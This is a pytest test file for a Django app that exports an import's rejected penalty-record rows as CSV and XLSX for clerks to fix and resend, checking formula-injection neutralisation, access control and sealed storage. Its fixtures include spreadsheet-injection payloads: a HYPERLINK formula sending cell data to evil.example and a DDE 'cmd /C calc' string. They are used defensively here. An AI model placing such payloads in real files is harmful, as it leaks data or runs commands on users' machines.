"""The rejected rows of an import, as a file a clerk fixes and sends again (CSV and XLSX).

The file holds every rejected row as it was sent — all its columns, under the file's own header, in
its order — with 行号 and 拒收原因 in front. Fixed and sent again, it goes in: the importer ignores the
two added columns. Formula-like cells are neutralised; the copy at rest holds no ID number in clear.
"""

import csv
import datetime as dt
import io

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.db import transaction
from openpyxl import load_workbook

from cleanrecord.accounts.models import DepartmentClerk
from cleanrecord.audit.models import AuditEntry
from cleanrecord.records.importing.rejected import rejected_rows_path
from cleanrecord.records.models import ImportBatch, Penalty
from cleanrecord.reference.models import Department

from .helpers import PENALTY_HEADERS, PERSON_ID, counts, penalty, person_penalty, run_import, write_csv, write_xlsx
from .test_import_parallel import split_files  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
# The file's own header, with a column nobody reads and a title row above it.
HEADER = [*PENALTY_HEADERS, "经办人"]


def _rows():
    return [
        {**penalty(1), "经办人": "王五"},  # good
        {**penalty(2, **{"处罚决定日期": "2024年13月1日"}), "经办人": "+cmd|' /C calc'!A0"},  # bad date
        {**penalty(3, **{"行政相对人名称": HOSTILE, "处罚决定日期": "", "罚款金额(万元)": "-5"}), "经办人": "@SUM(A1)"},
        {**person_penalty(4, **{"处罚决定日期": "昨天"}), "经办人": "\t=1+1"},  # a person: ID number in the file
    ]


@pytest.fixture
def clerk(client):
    user = User.objects.create_user("clerk-amr", password="pw-clerk-1")
    DepartmentClerk.objects.create(user=user, department=Department.objects.get(code="amr"))
    client.force_login(user)
    return user


def _csv_download(client, batch) -> list[list[str]]:
    response = client.get(f"/imports/{batch.pk}/rejected.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel opens the Chinese text as it is
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _xlsx_download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_the_rejected_rows_come_back_as_sent_with_their_row_number_and_every_reason(tmp_path, client, clerk):
    path = write_csv(tmp_path / "处罚.csv", HEADER, _rows(), above=[["兰州市市场监督管理局行政处罚信息"]])
    run = run_import(path)
    batch = run.batch
    assert counts(batch)["rejected"] == 3 and counts(batch)["created"] == 1

    rows = _csv_download(client, batch)

    assert rows[0] == ["行号", "拒收原因", *HEADER]
    assert [r[0] for r in rows[1:]] == ["4", "5", "6"]  # the file's rows: title, header, then data from row 3
    sent = {r[0]: r for r in rows[1:]}
    as_sent = _rows()[1]
    assert sent["4"][2:] == [as_sent[h] if h != "经办人" else "'" + as_sent[h] for h in HEADER]
    # Formula-like cells are neutralised in a CSV (a leading apostrophe); the rest is as sent.
    assert sent["4"][2:][HEADER.index("经办人")] == "'+cmd|' /C calc'!A0"
    assert sent["5"][2:][HEADER.index("行政相对人名称")] == "'" + HOSTILE
    assert sent["5"][2:][HEADER.index("罚款金额(万元)")] == "'-5"
    assert sent["5"][2:][HEADER.index("经办人")] == "'@SUM(A1)"
    assert sent["6"][2:][HEADER.index("经办人")] == "'\t=1+1"
    assert sent["6"][2:][HEADER.index("证件号码")] == PERSON_ID  # the clerk's own row, as sent, to fix
    # Every reason of a row, each with its column, joined.
    reasons = sent["5"][1].split("；")
    assert len(reasons) >= 2
    assert any(r.startswith("处罚决定日期：") for r in reasons)
    assert any(r.startswith("罚款金额(万元)：") for r in reasons)
    assert {tuple(r[:2]) for r in run.rejected()} >= {("5", "处罚决定日期"), ("5", "罚款金额(万元)")}

    # The copy kept on disk is sealed: no ID number, name or cell in clear.
    stored = rejected_rows_path(batch.error_file, batch.pk).read_bytes()
    assert PERSON_ID.encode() not in stored and "王五".encode() not in stored and b"HYPERLINK" not in stored
    assert AuditEntry.objects.filter(action="records.rejected_rows_download", target=f"import_batch:{batch.pk}").exists()


def test_the_xlsx_keeps_the_values_and_types_and_runs_nothing(tmp_path, client, clerk):
    rows = [
        # A text cell (openpyxl, which wrote this source file, would make "=..." a formula itself).
        {**penalty(1, **{"处罚决定日期": dt.datetime(2024, 3, 1), "罚款金额(万元)": 0.5,
                         "行政相对人名称": "@" + HOSTILE[1:]}), "经办人": "+cmd"},  # refused: no 处罚机关 …
        {**penalty(2, **{"罚款金额(万元)": -5, "处罚决定日期": "2024-13-01"}), "经办人": "@SUM(A1)"},
    ]
    rows[0]["处罚机关统一社会信用代码"] = ""
    rows[0]["处罚机关"] = ""
    path = write_xlsx(tmp_path / "处罚.xlsx", HEADER, rows)
    batch = run_import(path).batch
    assert counts(batch)["rejected"] == 2

    wb = _xlsx_download(client, f"/imports/{batch.pk}/rejected.xlsx")
    ws = wb.active
    table = [list(r) for r in ws.iter_rows(values_only=True)]
    assert table[0] == ["行号", "拒收原因", *HEADER]
    first = dict(zip(table[0], table[1], strict=False))
    assert first["行号"] == 2
    assert first["处罚决定日期"] == dt.datetime(2024, 3, 1)  # a date stays a date
    assert first["罚款金额(万元)"] == 0.5  # a number stays a number
    assert first["行政相对人名称"] == "@" + HOSTILE[1:]  # the value as sent…
    second = dict(zip(table[0], table[2], strict=False))
    assert second["罚款金额(万元)"] == -5  # a negative number is a number, not a formula
    # … but no cell is a formula: text that looks like one is a string cell, quote-prefixed.
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r" and cell.value:
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_a_fixed_copy_goes_back_in_and_the_added_columns_are_ignored(tmp_path, client, clerk):
    path = write_csv(tmp_path / "处罚.csv", HEADER, _rows()[:2])
    batch = run_import(path).batch
    rows = _csv_download(client, batch)
    header, fixed = rows[0], rows[1]
    fixed[header.index("处罚决定日期")] = "2024-03-01"  # the clerk fixes the cell named in 拒收原因
    fixed[header.index("经办人")] = "赵六"
    again = write_csv(tmp_path / "处罚-已修改.csv", header, [fixed])

    run = run_import(again)

    assert run.code == 0, run.issues()
    assert counts(run.batch)["created"] == 1 and counts(run.batch)["rejected"] == 0
    record = Penalty.objects.get(decision_no="兰市监罚〔2024〕2号")
    assert record.extra == {"经办人": "赵六"}  # 行号 and 拒收原因 are not kept as the record's own fields

    # Sent back with a cell still wrong: the new file has one pair of 行号 and 拒收原因, the new ones.
    rows = _csv_download(client, run_import(write_csv(tmp_path / "c.csv", HEADER, _rows()[1:2])).batch)
    rows[1][rows[0].index("经办人")] = "赵六"
    again = _csv_download(client, run_import(write_csv(tmp_path / "d.csv", rows[0], rows[1:])).batch)
    assert again[0] == ["行号", "拒收原因", *HEADER]
    assert again[1][0] == "2" and again[1][2:] == rows[1][2:]

    # The XLSX, fixed and sent back, goes in as well.
    batch = run_import(write_csv(tmp_path / "b.csv", HEADER, [{**penalty(7, **{"处罚决定日期": "无"}), "经办人": ""}])).batch
    wb = _xlsx_download(client, f"/imports/{batch.pk}/rejected.xlsx")
    ws = wb.active
    header = [c.value for c in ws[1]]
    ws.cell(2, header.index("处罚决定日期") + 1, "2024-03-02")
    wb.save(tmp_path / "fixed.xlsx")
    run = run_import(tmp_path / "fixed.xlsx")
    assert run.code == 0, run.issues()
    assert Penalty.objects.filter(decision_no="兰市监罚〔2024〕7号").exists()


def test_only_the_batchs_department_and_the_office_get_the_rows(tmp_path, client, clerk):
    batch = run_import(write_csv(tmp_path / "a.csv", HEADER, _rows()[:2])).batch
    other = User.objects.create_user("clerk-tax", password="pw-clerk-2")
    DepartmentClerk.objects.create(user=other, department=Department.objects.get(code="tax"))
    client.force_login(other)
    for fmt in ("csv", "xlsx"):
        assert client.get(f"/imports/{batch.pk}/rejected.{fmt}").status_code == 404
        assert client.get(f"/api/v1/imports/{batch.pk}/rejected?format={fmt}").status_code == 404
    client.force_login(clerk)
    assert client.get(f"/imports/{batch.pk}/rejected.pdf").status_code == 404
    page = client.get(f"/imports/{batch.pk}/").content.decode()
    assert f"/imports/{batch.pk}/rejected.xlsx" in page and f"/imports/{batch.pk}/rejected.csv" in page
    api = client.get(f"/api/v1/imports/{batch.pk}").json()
    assert api["rejected_rows_url"] == f"/api/v1/imports/{batch.pk}/rejected"
    response = client.get(f"/api/v1/imports/{batch.pk}/rejected?format=xlsx")
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.max_row == 2


def test_a_batch_without_rejected_rows_has_no_file(tmp_path, client, clerk):
    batch = run_import(write_csv(tmp_path / "a.csv", HEADER, _rows()[:1])).batch
    assert batch.rows_rejected == 0
    assert not rejected_rows_path(batch.error_file or tmp_path / "x", batch.pk).exists()
    assert client.get(f"/imports/{batch.pk}/rejected.csv").status_code == 404
    assert client.get(f"/api/v1/imports/{batch.pk}").json()["rejected_rows_url"] is None


def test_a_failed_import_leaves_no_rejected_rows(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(b"%PDF-1.7 not a table")
    batch = run_import(path).batch
    assert batch.status == ImportBatch.Status.FAILED
    assert not list((rejected_rows_path(tmp_path / "-", batch.pk).parent).glob(f"batch-{batch.pk}-*"))


@pytest.mark.skipif("postgresql" not in settings.DATABASES["default"]["ENGINE"],
                    reason="files are split between processes on PostgreSQL only")
def test_two_processes_keep_the_rejected_rows_of_both_parts_in_order(tmp_path, client, clerk, split_files):  # noqa: F811
    rows = [{**penalty(n, **({"处罚决定日期": "坏日期"} if n % 50 == 0 else {})), "经办人": f"经办{n}"}
            for n in range(1, 401)]
    # Rolled back before the fixture drops what another connection made (as test_import_parallel does).
    with transaction.atomic():
        batch = run_import(write_csv(tmp_path / "big.csv", HEADER, rows)).batch
        table = _csv_download(client, batch)
        transaction.set_rollback(True)
    assert split_files, "the file was not split"
    assert batch.rows_rejected == 8
    assert [r[0] for r in table[1:]] == [str(n + 1) for n in range(50, 401, 50)]
    assert [r[table[0].index("经办人")] for r in table[1:]] == [f"经办{n}" for n in range(50, 401, 50)]
